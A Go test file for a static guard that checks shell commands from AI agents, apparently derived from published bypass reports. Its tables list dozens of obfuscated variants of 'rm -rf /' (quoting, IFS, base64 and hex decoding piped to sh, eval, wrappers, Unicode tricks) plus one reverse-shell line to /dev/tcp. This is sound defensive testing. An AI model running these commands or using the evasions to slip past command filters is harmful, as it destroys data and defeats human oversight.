package static

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/e2bguard/e2bguard/guard"
)

func decide(t testing.TB, g *Guard, s guard.Subject) guard.Decision {
	t.Helper()

	f := g.Inspect(s)

	return f.Verdict().Decision
}

// TestPublishedEvasionsBlock holds the classes of FMXExpress/PasClaw PR 438:
// what the shell runs is not what the text looks like.
func TestPublishedEvasionsBlock(t *testing.T) {
	t.Parallel()

	g := newGuard(t, Options{})

	for name, text := range map[string]string{
		"quote removal":             `r''m -rf /`,
		"double quotes":             `r""m -r"f" "/"`,
		"backslash":                 `\r\m -\rf \/`,
		"IFS":                       `rm${IFS}-rf${IFS}/`,
		"IFS short":                 `rm$IFS-rf$IFS/`,
		"ANSI-C quotes":             `$'\x72\x6d' -rf $'\x2f'`,
		"ANSI-C octal":              `$'\162\155' -rf /`,
		"ANSI-C unicode":            `$'\u0072\u006d' -rf /`,
		"substitution":              `$(echo rm) -rf $(echo /)`,
		"backquotes":                "`echo rm` -rf /",
		"pipe to interpreter":       `echo "rm -rf /" | sh`,
		"here-string":               `sh <<< 'rm -rf /'`,
		"positional":                `r$@m -rf /`,
		"empty variable":            `r${x}m -rf /`,
		"set empty variable":        `x=; r${x}m -rf /$x`,
		"default expansion":         `${a:-rm} -rf ${b:-/}`,
		"slices":                    `x=rrmx; ${x:1:2} -rf /`,
		"slice of a known variable": `rm -rf ${HOME:0:1}`,
		"prefix removal":            `x=zzrm; ${x#zz} -rf /`,
		"replacement":               `x=rQm; ${x/Q/} -rf /`,
		"indirection":               `a=b; b=rm; ${!a} -rf /`,
		"array":                     `a=(rm -rf /); "${a[@]}"`,
		"array by index":            `a=(x rm); ${a[1]} -rf /`,
		"brace expansion":           `{rm,-rf,/}`,
		"glob in command name":      `/bin/r? -rf /`,
		"case change":               `x=RM; ${x,,} -rf /`,
		"printf":                    `$(printf '\x72\x6d') -rf /`,
		"printf pieces":             `$(printf %s%s r m) -rf /`,
		"tr":                        `$(echo sn | tr s-za-r r-za-q) -rf / ; echo en -es / | tr a-z n-za-m | sh`,
		"rev":                       `echo '/ fr- mr' | rev | sh`,
		"base64":                    `echo cm0gLXJmIC8K | base64 -d | sh`,
		"hex":                       `echo 726d202d7266202f | xxd -r -p | sh`,
		"line continuation":         "r\\\nm -r\\\nf /",
		"carriage returns":          "ls\r\nrm -rf /\r\n",
		"arithmetic":                `x=(rm ls); ${x[$((1-1))]} -rf /`,
		"function":                  `function x { "$@"; }; x rm -rf /`,
		"alias":                     `alias q='rm -rf'; q /`,
		"heredoc":                   "bash <<EOF\nrm -rf /\nEOF",
		"heredoc with variable":     "c=rm; bash <<EOF\n$c -rf /\nEOF",
		"file and run":              `echo 'rm -rf /' > /tmp/a; bash /tmp/a`,
		"file, mode and run":        `printf '#!/bin/sh\nrm -rf /\n' > a.sh && chmod +x a.sh && ./a.sh`,
		"trap":                      `trap 'rm -rf /' EXIT`,
		"prompt command":            `PROMPT_COMMAND='rm -rf /'`,
		"mapfile":                   `read -r a b c <<< "rm -rf /"; $a $b $c`,
		"printf -v":                 `printf -v x 'rm -rf %s' /; $x`,
		"while read":                `echo / | while read d; do rm -rf $d; done`,
		"xargs":                     `echo / | xargs rm -rf`,
		"xargs with token":          `echo / | xargs -I@ rm -rf @`,
		"process substitution":      `bash <(echo rm -rf /)`,
		"sourced":                   `. <(echo rm -rf /)`,
		"eval of pieces":            `eval r"m" -r'f' /`,
		"nested eval":               `eval "eval 'rm -rf /'"`,
		"nested shells":             `bash -c "sh -c 'bash -c \"rm -rf /\"'"`,
		"comment before":            "# harmless\nrm -rf /",
		"last of many":              strings.Repeat("echo fine\n", 500) + "rm -rf /",
		"zero width in name":        "r\u200bm -rf /",
		"after broken line":         "echo ')' ) ;; \nrm -rf /",
		"in broken line":            "if rm -rf /; then",
		"invalid UTF-8 before":      "echo \xff\xfe; rm -rf /",
		"NUL in name":               "r\x00m -rf /",
		"tilde of root":             "rm -rf ~root",
		"perl":                      `perl -e 'system "rm -rf /"'`,
		"double slash":              "rm -rf //",
		"dot dot":                   "rm -rf /home/user/../../etc",
		"long options":              "rm --rec --forc /etc --recursive",
		"command -p":                "command -p rm -rf /",
		"env -S":                    "env -S 'rm -rf /'",
		"loader":                    "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /",
		"subst in arithmetic":       "echo $((1 + $(rm -rf /)))",
		"subst in test":             "[[ -n $(rm -rf /) ]]",
		"subst in case":             "case $(rm -rf /) in *) ;; esac",
		"subst in array index":      "a[$(rm -rf /)]=1",
		"subst in heredoc":          "cat <<E\n$(rm -rf /)\nE",
		"subst in redirect":         "ls > $(rm -rf /)",
		"subst in assignment":       "X=$(rm -rf /)",
		"subst in default":          "echo ${y:-$(rm -rf /)}",
		"background":                "rm -rf / & disown",
		"negated":                   "! rm -rf /",
		"python":                    "python3 -c 'import os; os.system(\"rm -rf /\")'",
		"python heredoc":            "python3 - <<'PY'\nimport os\nc = 'rm -rf /'\nos.system(c)\nPY",
	} {
		f := g.Inspect(code("bash", text))
		v := f.Verdict()
		assert.Equal(t, guard.Block, v.Decision, "%s: %s", name, text)
	}
}

// TestWrappersAreSeenThrough: luisgf/infrabroker#352.
func TestWrappersAreSeenThrough(t *testing.T) {
	t.Parallel()

	g := newGuard(t, Options{})

	for _, w := range []string{
		"env", "env A=1", "env -i", "sudo", "sudo -u root", "sudo -E", "doas", "timeout 1", "timeout -s KILL 5s", "nice", "nice -n 19", "ionice -c 3", "nohup", "stdbuf -oL", "setsid", "time", "command", "exec", "exec -a x", "builtin command",
		"busybox", "toybox", "xargs", "xargs -n1", "unshare -r", "flock /tmp/l", "strace -f", "chroot /", "taskset 1", "chrt 1", "setarch x86_64", "unbuffer", "caffeinate", "fakeroot", "catchsegv", "nsenter --", "proxychains",
		"systemd-run --scope", "dbus-run-session --", "runuser -u user --", "gosu user", "su-exec user", "/usr/bin/env", "sudo env timeout 5 nice", "A=1 B=2", "script -qc", "uv run", "poetry run", "npx", "watch -n1", "parallel", "time -p", "sshpass -p x",
		"find . -maxdepth 0 -exec", "prlimit --nofile=10", "tini --", "dumb-init", "ltrace", "valgrind", "firejail", "xvfb-run", "start-stop-daemon --start --exec", "sudo -- ", "doas -u root", "linux32", "rlwrap", "torsocks",
	} {
		bad, good := w+" rm -rf /", w+" ls"

		switch {
		case strings.HasPrefix(w, "find"):
			bad, good = bad+" \\;", good+" \\;"
		case strings.HasPrefix(w, "script"):
			bad, good = w+" 'rm -rf /' /dev/null", w+" 'ls' /dev/null"
		case strings.HasPrefix(w, "start-stop"):
			bad, good = w+" rm -- -rf /", w+" ls"
		}

		assert.Equal(t, guard.Block, decide(t, g, code("bash", bad)), bad)
		assert.Equal(t, guard.Pass, decide(t, g, code("bash", good)), good)
	}

	for _, text := range []string{"bash -c 'rm -rf /'", "eval 'rm -rf /'", "su -c 'rm -rf /'", "su - root -c 'rm -rf /'", "sh -xec 'rm -rf /'", "bash -l -c 'rm -rf /'", "sudo bash -c \"rm -rf /\"", "flock /tmp/l -c 'rm -rf /'", "script -c 'rm -rf /'"} {
		assert.Equal(t, guard.Block, decide(t, g, code("bash", text)), text)
		assert.Equal(t, guard.Pass, decide(t, g, code("bash", strings.ReplaceAll(text, "rm -rf /", "ls"))), text)
	}
}

// TestQuotesDoNotHideCommands: luisgf/infrabroker#277.
func TestQuotesDoNotHideCommands(t *testing.T) {
	t.Parallel()

	g := newGuard(t, Options{})
	for _, text := range []string{`'rm' -rf /srv`, `r"m" -rf /srv`, `\rm -rf /srv`} {
		assert.Equal(t, guard.Block, decide(t, g, code("bash", text)), text)
	}
}

// TestEverySegmentIsJudged: diillson/chatcli PR 1531.
func TestEverySegmentIsJudged(t *testing.T) {
	t.Parallel()

	g := newGuard(t, Options{})
	for _, sep := range []string{";", "&&", "||", "|", "&", "\n", "; ;", "|&"} {
		text := "ls " + sep + " rm -rf /etc"
		assert.Equal(t, guard.Block, decide(t, g, code("bash", text)), text)
	}
}

// TestTwoSteps: gptme/gptme PR 840. Writing the payload is allowed, decoding
// and running it is not; a script is judged when it is written.
func TestTwoSteps(t *testing.T) {
	t.Parallel()

	g := newGuard(t, Options{})
	assert.Equal(t, guard.Pass, decide(t, g, code("bash", "echo cm0gLXJmIC8K > /tmp/1")))
	assert.Equal(t, guard.Block, decide(t, g, code("bash", "base64 -d /tmp/1 | bash")))
	assert.Equal(t, guard.Block, decide(t, g, file("write", "/home/user/x.sh", "rm -rf /\n")))
	assert.Equal(t, guard.Block, decide(t, g, code("bash", "cat > x.sh <<'E'\nrm -rf /\nE")))
}

// TestMentionsPass: MitulShah1/openai-agents-go#96 and
// Dicklesworthstone/destructive_command_guard#136: a string that is printed is
// not run, the same string that is run is.
func TestMentionsPass(t *testing.T) {
	t.Parallel()

	g := newGuard(t, Options{})

	for _, s := range []guard.Subject{
		code("bash", "python3 - <<'PY'\nprint('rm -rf /x')\nprint(\"rm -rf /\")\nPY"),
		code("bash", "echo 'rm -rf /' # rm -rf /"),
		code("bash", "r m - r f /"),
		code("bash", "git log --grep 'rm -rf /'"),
		code("bash", "grep -rn \"curl .* | sh\" docs"),
		code("bash", "echo 'bash -i >& /dev/tcp/1.2.3.4/1 0>&1' >> notes.md"),
		code("python", "rule = 'rm -rf /'\nprint(rule)"),
		code("bash", "rм -rf /"), // The м is Cyrillic; no such command exists.
	} {
		f := g.Inspect(s)
		assert.Empty(t, rulesOf(f), s.Text)
	}

	assert.Equal(t, guard.Block, decide(t, g, code("bash", "python3 - <<'PY'\nimport os\nc='rm -rf /'\nos.system(c)\nPY")))
}

// TestHiddenCharactersAreTold: meta-llama/PurpleLlama's hidden_ascii_scanner.
func TestHiddenCharactersAreTold(t *testing.T) {
	t.Parallel()

	g := newGuard(t, Options{})
	f := g.Inspect(code("python", "x = 1  # \U000E0072\U000E006D\U000E0020"))
	v := f.Verdict()
	assert.Equal(t, []string{"tag_characters"}, f.Normalized)
	assert.Contains(t, v.Reasoning, "tag_characters")
}

// TestNormalisedFormsAreJudgedAndTold: api7/aisix#767.
func TestNormalisedFormsAreJudgedAndTold(t *testing.T) {
	t.Parallel()

	g := newGuard(t, Options{})

	for _, c := range []struct {
		text string
		want []string
	}{
		{"rm\u200b -rf /", []string{"zero_width"}},
		{"rm \u202e-rf /", []string{"bidi"}},
		{"ｒｍ -rf /", []string{"nfkc"}},
		{"ｒm\u200b -rf /", []string{"zero_width", "nfkc"}},
		{"echo \xff; rm -rf /", []string{"invalid_utf8"}},
	} {
		f := g.Inspect(code("bash", c.text))
		assert.Equal(t, c.want, f.Normalized, c.text)
		assert.Contains(t, rulesOf(f), "delete-system-tree", c.text)
	}

	f := g.Inspect(code("bash", "echo 日本語 café"))
	assert.Empty(t, f.Normalized)
}

// TestFaultOfTheGuardIsABlock: meta-llama/PurpleLlama's codeshield answered
// "not insecure" on any exception.
func TestFaultOfTheGuardIsABlock(t *testing.T) {
	t.Parallel()

	g := newGuard(t, Options{})
	f := g.guarded(code("bash", "ls"), func() *analysis { panic("fault") })
	require.Len(t, f.Hits, 1)

	v := f.Verdict()
	assert.Equal(t, guard.Block, v.Decision)
	assert.Contains(t, v.Reasoning, "could not be analysed")
}

// TestWeakCodeIsNotMalice: the same scanner treated a weak hash like an attack.
func TestWeakCodeIsNotMalice(t *testing.T) {
	t.Parallel()

	g := newGuard(t, Options{Profile: Strict})
	f := g.Inspect(code("python", "import hashlib\nprint(hashlib.md5(b'x').hexdigest())"))
	assert.Empty(t, rulesOf(f))
}
